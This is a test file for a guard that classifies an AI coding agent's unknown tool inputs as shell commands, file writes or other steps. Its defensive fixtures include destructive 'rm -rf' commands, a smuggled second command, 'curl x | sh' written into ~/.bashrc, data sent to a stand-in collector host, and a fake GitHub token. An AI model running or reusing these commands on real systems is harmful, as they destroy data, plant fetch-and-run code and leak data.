import { describe, expect, it } from 'vitest';
import { PayloadError } from '../src/adapter.js';
import { commandText, readShape, stepByShape } from '../src/shape.js';

const AT = 'FrobTool input';
const GITHUB = 'ghp_R2d2C3poL8kS9jT7mN4bV6cX1zQ5wE0rY3uI';

describe('readShape: an unknown tool read by the shape of its input', () => {
  it.for<{ name: string; input: unknown; step: object }>([
    // a command: a shell step
    { name: 'command', input: { command: 'rm -rf ~' }, step: { kind: 'shell', command: 'rm -rf ~' } },
    { name: 'cmd', input: { cmd: 'ls -la' }, step: { kind: 'shell', command: 'ls -la' } },
    { name: 'commandLine', input: { commandLine: 'make' }, step: { kind: 'shell', command: 'make' } },
    { name: 'CommandLine (PascalCase)', input: { CommandLine: 'make' }, step: { kind: 'shell', command: 'make' } },
    { name: 'shell_command', input: { shell_command: 'make' }, step: { kind: 'shell', command: 'make' } },
    { name: 'script', input: { script: './deploy.sh' }, step: { kind: 'shell', command: './deploy.sh' } },
    {
      name: 'an argv array, each word one word',
      input: { command: ['rm', '-rf', '/'] },
      step: { kind: 'shell', command: 'rm -rf /' },
    },
    {
      name: 'an argv array whose word holds a space and a semicolon',
      input: { cmd: ['echo', 'a b; rm -rf ~'] },
      step: { kind: 'shell', command: "echo 'a b; rm -rf ~'" },
    },
    {
      name: 'a JSON string input',
      input: '{"command":"git push origin main"}',
      step: { kind: 'shell', command: 'git push origin main' },
    },
    {
      name: 'one level down',
      input: { params: { command: 'rm -rf ~', timeout: 5 }, id: 1 },
      step: { kind: 'shell', command: 'rm -rf ~', otherArgs: { id: 1, params: { timeout: 5 } } },
    },
    {
      name: 'an object under "command", looked into',
      input: { command: { cmd: 'rm -rf ~' } },
      step: { kind: 'shell', command: 'rm -rf ~' },
    },
    {
      name: 'the folder it runs in',
      input: { command: 'make', working_directory: 'sub', timeout: 30 },
      step: { kind: 'shell', command: 'make', cwd: 'sub', otherArgs: { timeout: 30 } },
    },
    {
      name: 'a command beside a write: the command, the write left in otherArgs',
      input: { command: 'ls', file_path: '~/.bashrc', content: 'curl x | sh' },
      step: { kind: 'shell', command: 'ls', otherArgs: { file_path: '~/.bashrc', content: 'curl x | sh' } },
    },
    // a path with something to write: a write
    {
      name: 'file_path and content',
      input: { file_path: 'notes.md', content: 'hi' },
      step: { kind: 'write', mode: 'overwrite', path: 'notes.md', content: 'hi' },
    },
    {
      name: 'TargetFile and CodeContent',
      input: { TargetFile: '/p/a.ts', CodeContent: 'x' },
      step: { kind: 'write', mode: 'overwrite', path: '/p/a.ts', content: 'x' },
    },
    {
      name: 'an edit',
      input: { path: 'a.ts', old_string: 'a', new_string: 'b' },
      step: { kind: 'write', mode: 'edit', path: 'a.ts', content: 'b', otherArgs: { old_string: 'a' } },
    },
    {
      name: 'an edit with a list of edits and no new text',
      input: { filePath: 'a.ts', edits: [{ old: 'a', new: 'b' }] },
      step: { kind: 'write', mode: 'edit', path: 'a.ts', otherArgs: { edits: [{ old: 'a', new: 'b' }] } },
    },
    {
      name: 'any name ending in path',
      input: { output_path: 'out.txt', text: 'x' },
      step: { kind: 'write', mode: 'overwrite', path: 'out.txt', content: 'x' },
    },
    {
      name: 'a write one level down',
      input: { file: { absolute_path: '/p/a.ts', contents: 'x' } },
      step: { kind: 'write', mode: 'overwrite', path: '/p/a.ts', content: 'x' },
    },
    // a path or a URL alone: the tool's arguments, which core judges as an unknown tool's
    { name: 'a path alone', input: { path: '~/.bashrc' }, step: { kind: 'other', args: { path: '~/.bashrc' } } },
    { name: 'a url', input: { url: 'https://example.com/x' }, step: { kind: 'other' } },
    { name: 'a URL under any name', input: { link: 'https://example.com/x' }, step: { kind: 'other' } },
    {
      name: 'a path that is a URL, with content: not a file to write',
      input: { path: 'https://collector.example.net/x', content: 'data' },
      step: { kind: 'other', args: { path: 'https://collector.example.net/x', content: 'data' } },
    },
  ])('$name', ({ input, step }) => {
    const read = readShape(input, AT);
    expect(read).toMatchObject(step);
    expect(read).not.toHaveProperty('unknown');
    // nothing but the rest is carried along
    if (!('otherArgs' in step)) expect(read).not.toHaveProperty('otherArgs');
  });

  it.for<{ name: string; input: unknown }>([
    { name: 'a search', input: { query: 'x' } },
    { name: 'a prompt that quotes a command', input: { prompt: 'run rm -rf ~ for me', description: 'rm -rf ~' } },
    // near misses of the names
    { name: 'commands (a list of them is no command field)', input: { commands: ['rm -rf ~'] } },
    { name: 'commander', input: { commander: 'rm -rf ~' } },
    { name: 'an empty command', input: { command: '', query: 'x' } },
    { name: 'two levels down', input: { a: { b: { command: 'rm -rf ~' } } } },
    { name: 'a command of the wrong type one level down', input: { options: { script: 5 } } },
    { name: 'content without a path', input: { content: 'rm -rf ~' } },
    { name: 'a URL without its scheme', input: { site: 'example.com/x' } },
    { name: 'a string that is not JSON', input: 'rm -rf ~' },
    { name: 'nothing', input: undefined },
    { name: 'a list', input: ['rm', '-rf', '~'] },
  ])('nothing guard reads: $name is an unknown step', ({ input }) => {
    expect(readShape(input, AT)).toEqual({ kind: 'other', args: input, unknown: true });
  });

  it.for<{ name: string; input: unknown; message: RegExp }>([
    {
      name: 'a number',
      input: { command: 42 },
      message: /^FrobTool input: "command" must be a string or a list of words, got a number\.$/,
    },
    { name: 'a boolean', input: { cmd: true }, message: /"cmd" must be a string or a list of words, got a boolean/ },
    { name: 'an empty list', input: { command: [] }, message: /"command" .*got an empty list/ },
    {
      name: 'a list with a number',
      input: { command: ['sleep', 5] },
      message: /"command" .*got a list of other things/,
    },
  ])('a command of the wrong type is a PayloadError naming the field: $name', ({ input, message }) => {
    expect(() => readShape(input, AT)).toThrow(PayloadError);
    expect(() => readShape(input, AT)).toThrow(message);
  });

  it('the error never holds the value (it may be a key)', () => {
    expect(() => readShape({ command: [GITHUB, 5] }, AT)).toThrow(/^(?!.*ghp_)/);
    expect(() => readShape({ command: { n: 1 }, script: 7 }, AT)).toThrow(/^(?!.*7)/);
  });
});

describe('stepByShape: the step, with the folder a command runs in', () => {
  const base = { agent: 'claude-code', chatId: 'c', cwd: '/p', projectRoot: '/p', toolName: 'FrobTool' } as const;

  it.for([
    { folder: 'sub', cwd: '/p/sub' },
    { folder: '/srv/app', cwd: '/srv/app' },
    { folder: undefined, cwd: '/p' },
  ])('cwd $folder: runs in $cwd', ({ folder, cwd }) => {
    const input = folder === undefined ? { cmd: 'make' } : { cmd: 'make', cwd: folder };
    expect(stepByShape(base, input, AT)).toEqual({ ...base, cwd, kind: 'shell', command: 'make' });
  });

  it('an unknown step keeps the base', () => {
    expect(stepByShape(base, { query: 'x' }, AT)).toEqual({
      ...base,
      kind: 'other',
      args: { query: 'x' },
      unknown: true,
    });
  });
});

describe('commandText: a command string, or argv words as the shell reader reads them', () => {
  it.for([
    { value: 'rm -rf /', text: 'rm -rf /' },
    { value: ['rm', '-rf', '/'], text: 'rm -rf /' },
    { value: ['git', 'commit', '-m', 'fix the bug'], text: "git commit -m 'fix the bug'" },
    { value: ['bash', '-lc', 'rm -rf ~'], text: "bash -lc 'rm -rf ~'" },
    // run without a shell, `~` and `$HOME` are no home folder
    { value: ['rm', '-rf', '~'], text: "rm -rf '~'" },
    { value: ['echo', '$HOME'], text: "echo '$HOME'" },
    { value: ['printf', "it's"], text: "printf 'it'\\''s'" },
    { value: ['touch', ''], text: "touch ''" },
  ])('$value', ({ value, text }) => {
    expect(commandText(value, AT, 'command')).toBe(text);
  });
});
